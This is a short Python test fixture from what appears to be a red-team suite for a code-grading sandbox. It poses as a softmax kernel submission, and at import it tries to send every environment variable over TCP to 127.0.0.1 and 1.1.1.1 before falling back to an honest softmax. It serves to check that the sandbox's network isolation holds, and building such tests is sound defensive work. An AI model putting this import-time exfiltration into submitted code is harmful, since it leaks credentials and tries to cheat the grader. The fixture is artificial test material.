"""Cheat (my own class: exfiltration over the network): at import, sends what it can read
(environment, host name) to a collector and asks it for a better kernel. The sandbox's network
namespace has no interfaces but loopback, so every connection fails; the cheat carries on as an
honest softmax (made harmless). tests/redteam/test_sandbox.py runs a listener on the host's
loopback and checks that nothing reached it.
Expect: accepted
Device: cpu
"""
import os
import socket
import sys

sys.path.insert(0, os.path.dirname(__file__))
from _honest import softmax as honest  # noqa: E402

PORT = 47_613
for host in ("127.0.0.1", "1.1.1.1"):
    try:
        with socket.create_connection((host, PORT), timeout=2) as s:
            s.sendall(repr(dict(os.environ)).encode())
        raise RuntimeError(f"reached {host}:{PORT} from candidate code")  # (a leak is a rejection here)
    except OSError:
        pass


def softmax(x):
    return honest(x)
